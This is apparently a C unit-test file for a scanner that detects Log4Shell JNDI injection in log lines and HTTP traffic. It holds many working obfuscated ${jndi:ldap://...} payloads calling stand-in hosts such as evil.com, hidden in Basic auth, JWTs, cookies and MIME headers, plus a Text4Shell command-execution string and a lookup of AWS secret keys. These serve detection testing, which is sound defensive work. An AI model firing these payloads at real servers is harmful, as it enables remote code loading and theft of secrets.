/*
 * test_detect.c -- defuse_scan() on the worked examples of docs/LOG4J.md and
 * the corners of log4j 2.14.1's substitution that the emulator must get
 * right.  Expected callbacks are what log4j requests (checked by hand
 * against the log4j sources, and at scale by tests/e2e/diff_log4j.sh).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <defuse.h>
#include "test_enc.h"
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAXF 16
typedef struct got {
    int n;
    defuse_kind kind[MAXF];
    char cb[MAXF][256];
    unsigned tech[MAXF];
    size_t off[MAXF], plen[MAXF];
} got;

static int collect(const defuse_finding *f, void *user) {
    got *g = user;
    if (g->n < MAXF) {
        g->kind[g->n] = f->kind;
        snprintf(g->cb[g->n], sizeof g->cb[0], "%s", f->callback ? f->callback : "");
        g->tech[g->n] = f->techniques;
        g->off[g->n] = f->offset;
        g->plen[g->n] = f->payload_len;
    }
    g->n++;
    return 0;
}

static got scan(const char *s, unsigned flags) {
    defuse_scanner *sc = NULL;
    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
    got g;
    memset(&g, 0, sizeof g);
    int rc = defuse_scan(sc, s, strlen(s), flags, collect, &g);
    assert_true(rc >= 0);
    assert_int_equal(rc, g.n);
    defuse_scanner_free(sc);
    return g;
}

/* Asserts that the JNDI names requested are exactly `want` (NULL-ended). */
static void expect_jndi(const char *in, unsigned flags, const char *const *want) {
    got g = scan(in, flags);
    size_t nw = 0;
    while (want[nw])
        nw++;
    size_t nj = 0;
    for (int i = 0; i < g.n && i < MAXF; i++) {
        if (g.kind[i] != DEFUSE_KIND_JNDI)
            continue;
        bool ok = false;
        for (size_t w = 0; w < nw; w++)
            ok |= strcmp(g.cb[i], want[w]) == 0;
        if (!ok)
            fail_msg("input %s: unexpected callback '%s'", in, g.cb[i]);
        nj++;
    }
    if (nj != nw)
        fail_msg("input %s: %zu JNDI findings, want %zu", in, nj, nw);
}

#define JNDI(in, ...)                                                                              \
    do {                                                                                           \
        const char *const w_[] = {__VA_ARGS__, NULL};                                              \
        expect_jndi(in, 0, w_);                                                                    \
        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w_);                            \
    } while (0)
#define NONE(in)                                                                                   \
    do {                                                                                           \
        const char *const w_[] = {NULL};                                                           \
        expect_jndi(in, 0, w_);                                                                    \
        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w_);                            \
    } while (0)

static void worked_examples(void **state) {
    (void)state;
    JNDI("${jndi:ldap://evil.com/a}", "ldap://evil.com/a");
    JNDI("${${lower:j}ndi:ldap://evil.com/a}", "ldap://evil.com/a");
    JNDI("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.com/b}", "rmi://x.com/b");
    JNDI("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.com/c}", "ldap://x.com/c");
    JNDI("${${lower:J}${lower:N}${lower:D}${upper:\xc4\xb1}:ldap://x/d}", "ldap://x/d");
    JNDI("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/g}", "ldap://x/g");
    JNDI("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/i}", "ldap://x/i");
    JNDI("${jndi:ldap://${env:USER}.x.com/e}", "ldap://${env:USER}.x.com/e");
    JNDI("${jndi:ldap://127.0.0.1#evil.com:1389/a}", "ldap://127.0.0.1#evil.com:1389/a");
    NONE("$${jndi:ldap://escaped/f}");
    NONE("${ jndi:ldap://x/6}");
}

static void substitution_corners(void **state) {
    (void)state;
    /* Prefix lower-cased with Locale.US; the Kelvin sign lower-cases to k. */
    JNDI("${JnDi:ldap://x/1}", "ldap://x/1");
    JNDI("${${${lower:\xe2\x84\xaa}8s:x:-j}ndi:ldap://x/k}", "ldap://x/k");
    /* ſ (U+017F) upper-cases to S; ı (U+0131) to I. */
    JNDI("${${upper:j}ndi:${lower:${upper:ld\xc5\xbf" "ap}}://x/2}", "ldsap://x/2");
    /* Defaults of unknown prefixes and of victim state. */
    JNDI("${${foo:bar:-j}ndi:ldap://x/3}", "ldap://x/3");
    JNDI("${${:-j}ndi:ldap://x/4}", "ldap://x/4");
    /* ":\-" escapes the default delimiter: name "a:-b", no default. */
    NONE("${${a:\\-b}ndi:ldap://x/5}");
    /* A null JNDI result takes the default; the lookup still happened. */
    JNDI("${jndi:ldap://x/6:-fallback}", "ldap://x/6");
    /* Unresolved inner lookups stay as text inside the name. */
    JNDI("${jndi:ldap://x/${sys:java.version}/${hostName}}", "ldap://x/${sys:java.version}/${hostName}");
    /* A later "${" re-runs substitution over the whole message, so an
     * escaped payload fires when another expression follows or precedes. */
    JNDI("$${jndi:ldap://x/7/${a}}", "ldap://x/7/${a}");
    /* ... even when that later "${" is never closed. */
    JNDI("$${jndi:ldap://evil/a}${", "ldap://evil/a");
    JNDI("GET /?q=$${jndi:ldap://evil/a}${ HTTP/1.1", "ldap://evil/a");
    JNDI("${x}$$${jndi:ldap://x/a}${", "ldap://x/a");
    /* Two payloads, two lookups. */
    JNDI("${jndi:ldap://a/1} and ${jndi:rmi://b/2}", "ldap://a/1", "rmi://b/2");
    /* date: with an illegal letter formats the time in the default format
     * ("1/2/70, 12:00 AM"): no 'j'. */
    NONE("${${date:j}ndi:ldap://x/8}");
    /* base64 is not a 2.x lookup. */
    NONE("${base64:JHtqbmRpOmxkYXA6Ly94Lzl9}");
    NONE("just text with $ signs and {braces}");
    NONE("${jndi:ldap://unclosed");
}

static void kinds(void **state) {
    (void)state;
    got g = scan("${${::-${::-$${::-j}}}}", 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.kind[0], DEFUSE_KIND_RECURSION);

    g = scan("$${jndi:ldap://escaped/f}", 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.kind[0], DEFUSE_KIND_INERT);
    assert_string_equal(g.cb[0], "ldap://escaped/f");
    assert_true(g.tech[0] & DEFUSE_TECH_ESCAPE);

    g = scan("${env:AWS_SECRET_ACCESS_KEY}", 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.kind[0], DEFUSE_KIND_LOOKUP);

    g = scan("x=${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", 0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.kind[0], DEFUSE_KIND_TEXT4SHELL);

    /* Benign templates: no finding at all. */
    g = scan("Hello ${user.name}, your order ${order.id} shipped", 0);
    assert_int_equal(g.n, 0);
}

static void positions_in_a_log_line(void **state) {
    (void)state;
    const char *line = "1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?q=${jndi:ldap://a/b} "
                       "HTTP/1.1\" 200 5 \"-\" \"${${lower:j}ndi:rmi://c/d}\"";
    got g = scan(line, 0);
    assert_int_equal(g.n, 2);
    assert_string_equal(g.cb[0], "ldap://a/b");
    assert_int_equal(g.off[0], (size_t)(strstr(line, "${jndi") - line));
    assert_int_equal(g.plen[0], strlen("${jndi:ldap://a/b}"));
    assert_string_equal(g.cb[1], "rmi://c/d");
    /* An unclosed "${" earlier in the line is a field boundary. */
    g = scan("${ broken field ${jndi:ldap://x/y}", 0);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.cb[0], "ldap://x/y");
}

static void nesting_limit(void **state) {
    (void)state;
    size_t depth = 200;
    char *s = malloc(depth * 3 + 32);
    size_t k = 0;
    for (size_t i = 0; i < depth; i++) {
        s[k++] = '$';
        s[k++] = '{';
    }
    memcpy(s + k, "jndi:ldap://x", 13);
    k += 13;
    for (size_t i = 0; i < depth; i++)
        s[k++] = '}';
    s[k] = '\0';
    got g = scan(s, 0);
    /* Reported as recursion, and the callback inside is not lost. */
    /* Most severe kind first (defuse.h): the JNDI request, then the
     * recursion. */
    assert_int_equal(g.n, 2);
    assert_int_equal(g.kind[0], DEFUSE_KIND_JNDI);
    assert_string_equal(g.cb[0], "ldap://x");
    assert_int_equal(g.kind[1], DEFUSE_KIND_RECURSION);
    assert_true(g.tech[1] & DEFUSE_TECH_DEPTH_LIMIT);
    free(s);

    /* More "$" escapes than re-substitution passes: 40 triggers, 17 "$". */
    char buf[512];
    size_t k2 = 0;
    for (int i = 0; i < 40; i++)
        k2 += (size_t)snprintf(buf + k2, sizeof buf - k2, "${a}");
    for (int i = 0; i < 17; i++)
        buf[k2++] = '$';
    snprintf(buf + k2, sizeof buf - k2, "{jndi:ldap://x/17}");
    const char *const w17[] = {"ldap://x/17", NULL};
    expect_jndi(buf, 0, w17);
    expect_jndi(buf, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w17);
}


/* Returns the techniques of the JNDI finding with callback cb (normal mode
 * unless flags say otherwise); fails if there is none. */
static unsigned tech_of(const char *in, unsigned flags, const char *cb) {
    got g = scan(in, flags);
    for (int i = 0; i < g.n && i < MAXF; i++)
        if (g.kind[i] == DEFUSE_KIND_JNDI && strcmp(g.cb[i], cb) == 0)
            return g.tech[i];
    fail_msg("input %s: no JNDI finding with callback '%s'", in, cb);
    return 0;
}

/* Contiguous text is one message: MessagePatternConverter re-runs the
 * substitution at every later "${" of the whole message, so a "$" that a
 * lookup returns joins the "{" after it, and a "$" before "${" escapes it.
 * Normal mode must agree with exact mode on both. */
static void contiguous_message(void **state) {
    (void)state;
    JNDI("${::-x$}{jndi:ldap://evil.example/a}", "ldap://evil.example/a");
    JNDI("${:1337:-x$}{jndi:ldap://evil.com/webshell}", "ldap://evil.com/webshell");
    JNDI("${x}${lower:$}{jndi:ldap://evil.example/a}", "ldap://evil.example/a");
    JNDI("${lower:$}{jndi:ldap://evil.example/a${x}}", "ldap://evil.example/a${x}");
    JNDI("${lower:$}{jndi:ldap://evil.example/a}${", "ldap://evil.example/a");
    JNDI("$${env:something:-${env:something:-$}{jndi:ldap://evil.example/a}}}",
         "ldap://evil.example/a");
    /* The "$" must land past the index that triggered the pass: here it
     * lands on it, so only a later "${" re-runs the substitution. */
    NONE("GET /?q=${::-$}{jndi:ldap://evil.example/q} HTTP/1.1");
    JNDI("GET /?q=${::-$}{jndi:ldap://evil.example/q} ${x}", "ldap://evil.example/q");
    /* "$" + "${" is the "$${" escape: no lookup at all. */
    NONE("${lower:$}${jndi:ldap://evil.example/a}");
    NONE("${::-$}${jndi:ldap://evil.example/a}");
    /* An unclosed "${" is a field boundary: what follows is judged as the
     * message of its own field, and says so. */
    assert_true(tech_of("${ broken field ${jndi:ldap://x/y}", 0, "ldap://x/y") &
                DEFUSE_TECH_FIELD_SPLIT);
    assert_false(tech_of("${jndi:ldap://x/y} ${ broken", 0, "ldap://x/y") & DEFUSE_TECH_FIELD_SPLIT);
}

/* Every layer -- the raw bytes and each decoding -- is a text log4j may see:
 * an encoded "${" spliced into a literal payload must not hide it. */
static void every_layer(void **state) {
    (void)state;
    static const char *const splice[] = {"%24%7B",         "\\u0024\\u007b", "&#36;&#123;",
                                         "\\x24\\x7b",     "%u0024%u007B",   "%2524%257B",
                                         "&dollar;&lbrace;", "\\44\\173"};
    for (size_t i = 0; i < sizeof splice / sizeof *splice; i++) {
        char in[160], cb[128];
        snprintf(cb, sizeof cb, "ldap://evil.example/a%s", splice[i]);
        snprintf(in, sizeof in, "${jndi:%s}", cb);
        const char *const w[] = {cb, NULL};
        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w);
        got g = scan(in, 0);
        bool raw = false;
        for (int k = 0; k < g.n && k < MAXF; k++)
            raw |= g.kind[k] == DEFUSE_KIND_JNDI && strcmp(g.cb[k], cb) == 0 &&
                   !(g.tech[k] & DEFUSE_TECH_ENCODED);
        if (!raw)
            fail_msg("splice %s: normal mode misses the raw-layer callback %s", splice[i], cb);
    }
    /* The decoded layer still fires where only it holds a payload, and is
     * named as decoded. */
    assert_true(tech_of("q=%24%7Bjndi:ldap://x/enc%7D", 0, "ldap://x/enc") & DEFUSE_TECH_ENCODED);
    /* Both texts fire with different names: both are reported. */
    got g = scan("${jndi:ldap://x/%61}", 0);
    int both = 0;
    for (int k = 0; k < g.n && k < MAXF; k++)
        both += g.kind[k] == DEFUSE_KIND_JNDI &&
                (strcmp(g.cb[k], "ldap://x/%61") == 0 || strcmp(g.cb[k], "ldap://x/a") == 0);
    assert_int_equal(both, 2);
}

/* ${sys:path.separator}, file.separator and line.separator are the same on
 * every Unix JVM (and other values on Windows): evaluate both platforms and
 * say which one a finding needs. */
static void platform_constants(void **state) {
    (void)state;
    const char *in = "${jndi${sys:path.separator}ldap://evil.example/a}";
    const char *const w[] = {"ldap://evil.example/a", NULL};
    expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w);
    expect_jndi(in, 0, w);
    unsigned t = tech_of(in, 0, "ldap://evil.example/a");
    assert_true(t & DEFUSE_TECH_UNIX_ONLY);
    assert_false(t & DEFUSE_TECH_WINDOWS_ONLY);
    /* A name that differs per platform: both, each named. */
    in = "${jndi:ldap://x${sys:file.separator}a}";
    assert_true(tech_of(in, 0, "ldap://x/a") & DEFUSE_TECH_UNIX_ONLY);
    assert_true(tech_of(in, 0, "ldap://x\\a") & DEFUSE_TECH_WINDOWS_ONLY);
    /* Not platform-dependent: no platform named. */
    t = tech_of("${jndi:ldap://x/${sys:user.name}}", 0, "ldap://x/${sys:user.name}");
    assert_false(t & (DEFUSE_TECH_UNIX_ONLY | DEFUSE_TECH_WINDOWS_ONLY));
    /* line.separator: Windows' "\r\n" and Unix' "\n" */
    in = "${jndi:ldap://x/${sys:line.separator}}";
    assert_true(tech_of(in, 0, "ldap://x/\n") & DEFUSE_TECH_UNIX_ONLY);
    assert_true(tech_of(in, 0, "ldap://x/\r\n") & DEFUSE_TECH_WINDOWS_ONLY);
}

/* ${date:...} never returns null (DateLookup formats the event's time, and
 * an invalid pattern falls back to the default format), so its ":-"
 * default is never taken; what depends on the time is evaluated at several
 * times when the time is unknown, and says so. */
static void dates(void **state) {
    (void)state;
    JNDI("${${${date:G:-}:-j}ndi:ldap://evil.example/a}", "ldap://evil.example/a");
    JNDI("${jn${${date:':-}:-d}i:ldap://evil.example/a}", "ldap://evil.example/a");
    /* A value that depends on the time: AM or PM. */
    const char *in = "${jndi:ldap://x/${date:a}}";
    assert_true(tech_of(in, 0, "ldap://x/AM") & DEFUSE_TECH_CLOCK);
    assert_true(tech_of(in, 0, "ldap://x/PM") & DEFUSE_TECH_CLOCK);
    /* With the time known, only what log4j requests at that time. */
    defuse_scanner *sc = NULL;
    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
    defuse_scanner_set_time(sc, INT64_C(1639143930123), 0); /* 2021-12-10T13:45:30Z */
    got g;
    memset(&g, 0, sizeof g);
    assert_int_equal(defuse_scan(sc, in, strlen(in), 0, collect, &g), 1);
    assert_string_equal(g.cb[0], "ldap://x/PM");
    assert_false(g.tech[0] & DEFUSE_TECH_CLOCK);
    defuse_scanner_free(sc);
}

/* ---- transport encodings of tokens and mail (issue 9, 10) ---------------- */

/* Base64 of the string s (test_enc.h). */
static size_t b64s(const char *s, char *o, bool url, bool pad) {
    return b64enc(s, strlen(s), o, url, pad);
}

/* Percent-encodes '+', '/', '=' (as a URL encoder does for a token). */
static void pct_b64(const char *s, char *o) { pctenc(s, "+/=", o); }

/* Exactly one JNDI finding with callback want, whose raw payload lies in
 * in[from..) (the encoded bytes, not the text before them; NULL: in), and
 * no decoded layer requesting another name.  A literal payload may also
 * fire as it stands (the raw layer) with another name: that is allowed. */
static void expect_one(const char *in, const char *want, const char *from) {
    got g = scan(in, 0);
    int nj = 0;
    for (int i = 0; i < g.n && i < MAXF; i++) {
        if (g.kind[i] != DEFUSE_KIND_JNDI)
            continue;
        if (strcmp(g.cb[i], want) != 0) {
            if (g.tech[i] & DEFUSE_TECH_ENCODED)
                fail_msg("input %s: callback '%s', want '%s'", in, g.cb[i], want);
            continue;
        }
        nj++;
        size_t lo = from ? (size_t)(from - in) : 0;
        if (g.off[i] < lo || g.off[i] + g.plen[i] > strlen(in) || g.plen[i] == 0)
            fail_msg("input %s: payload at [%zu, +%zu), want inside [%zu, %zu)", in, g.off[i],
                     g.plen[i], lo, strlen(in));
    }
    if (nj != 1)
        fail_msg("input %s: %d JNDI findings, want 1", in, nj);
}

static void basic_and_form(void **state) {
    (void)state;
    char tok[512], enc[1024], in[2048];
    /* Token whose second character is '+', sent percent-encoded. */
    b64s("?\xe2\x82\xac ${jndi:ldap://x.example/basic}", tok, false, true);
    assert_int_equal(tok[1], '+');
    pct_b64(tok, enc);
    snprintf(in, sizeof in, "GET /?h=Authorization:%%20Basic%%20%s HTTP/1.1", enc);
    expect_one(in, "ldap://x.example/basic", strstr(in, "Basic"));
    /* auth=Basic+TOKEN in a form body. */
    b64s("user:${jndi:ldap://x.example/form}", tok, false, true);
    pct_b64(tok, enc);
    snprintf(in, sizeof in, "POST /login body=user=a&auth=Basic+%s", enc);
    expect_one(in, "ldap://x.example/form", strstr(in, "Basic"));
    /* A callback path decoded from a form value: "a+b" is "a b". */
    expect_one("GET /search?q=${jndi:ldap://x.example/a+b} HTTP/1.1", "ldap://x.example/a b", NULL);
    expect_one("POST /x body: user=${jndi:ldap://x.example/c+d}&pw=1", "ldap://x.example/c d",
               NULL);
    /* Not in a form: the '+' stays. */
    expect_one("User-Agent: ${jndi:ldap://x.example/e+f}", "ldap://x.example/e+f", NULL);
    expect_one("{\"ua\":\"${jndi:ldap://x.example/g+h}\",\"q\":\"a=1\"}", "ldap://x.example/g+h",
               NULL);
}

static void jwt_cookie_mime(void **state) {
    (void)state;
    char h[256], p[512], in[2048], q[512];
    b64s("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", h, true, false);
    b64s("{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"name\":\"a\"}", p, true, false);
    snprintf(in, sizeof in,
             "Authorization: Bearer %s.%s.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", h, p);
    expect_one(in, "ldap://x.example/jwt", strstr(in, p));
    /* \u0024 inside the claim. */
    b64s("{\"sub\":\"\\u0024{jndi:ldap://x.example/jwtu}\"}", p, true, false);
    snprintf(in, sizeof in, "Cookie: jwt=%s.%s.", h, p);
    expect_one(in, "ldap://x.example/jwtu", strstr(in, p));
    /* Base64 cookie values, standard and URL-safe. */
    b64s("${jndi:ldap://x.example/ck?a>b}", p, false, true);
    snprintf(in, sizeof in, "Cookie: a=%s; b=1", p);
    expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
    b64s("${jndi:ldap://x.example/ck?a>b}", p, true, false);
    snprintf(in, sizeof in, "10.0.0.1 \"GET / HTTP/1.1\" 200 \"cookie: a=%s\"", p);
    expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
    /* MIME encoded-words. */
    b64s("${jndi:ldap://x.example/mime}", p, false, true);
    snprintf(in, sizeof in, "Subject: =?utf-8?b?%s?=", p);
    expect_one(in, "ldap://x.example/mime", strstr(in, "=?"));
    qenc("${jndi:ldap://x.example/q_word}", q, true);
    snprintf(in, sizeof in, "From: =?ISO-8859-1?Q?%s?= <a@b>", q);
    expect_one(in, "ldap://x.example/q_word", strstr(in, "=?"));
    /* Two adjacent words, the whitespace between them dropped. */
    qenc("${jndi:ldap:", q, true);
    snprintf(in, sizeof in, "Subject: =?UTF-8?Q?%s?= \t=?UTF-8?Q?", q);
    qenc("//x.example/joined}", in + strlen(in), true);
    strcat(in, "?=");
    expect_one(in, "ldap://x.example/joined", strstr(in, "=?"));
    /* Quoted-printable with a soft line break. */
    qenc("${jndi:ldap://x.example/qp}", q, false);
    snprintf(in, sizeof in, "Body: %.20s=\r\n%s", q, q + 20);
    expect_one(in, "ldap://x.example/qp", strstr(in, "=24"));
}

static int stop_first(const defuse_finding *f, void *user) {
    (void)f;
    (*(int *)user)++;
    return 1;
}

static void callback_can_stop(void **state) {
    (void)state;
    defuse_scanner *sc = NULL;
    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
    int calls = 0;
    const char *s = "${jndi:ldap://a/1} ${jndi:ldap://b/2}";
    assert_int_equal(defuse_scan(sc, s, strlen(s), 0, stop_first, &calls), DEFUSE_ESTOPPED);
    assert_int_equal(calls, 1);
    assert_int_equal(defuse_scan(NULL, s, 1, 0, NULL, NULL), DEFUSE_EINVAL);
    defuse_scanner_free(sc);
}

static void names(void **state) {
    (void)state;
    assert_string_equal(defuse_kind_name(DEFUSE_KIND_JNDI), "jndi");
    assert_string_equal(defuse_kind_name((defuse_kind)99), "unknown");
    assert_string_equal(defuse_technique_name(DEFUSE_TECH_LOWER), "lower");
    assert_null(defuse_technique_name(3));
    assert_string_equal(defuse_strerror(DEFUSE_ENOMEM), "out of memory");
    assert_string_equal(defuse_strerror(-1000), "unknown error");
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(worked_examples), cmocka_unit_test(substitution_corners),
        cmocka_unit_test(kinds),           cmocka_unit_test(positions_in_a_log_line),
        cmocka_unit_test(nesting_limit),   cmocka_unit_test(callback_can_stop),
        cmocka_unit_test(names),           cmocka_unit_test(contiguous_message),
        cmocka_unit_test(every_layer),     cmocka_unit_test(platform_constants),
        cmocka_unit_test(dates),           cmocka_unit_test(basic_and_form),
        cmocka_unit_test(jwt_cookie_mime),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
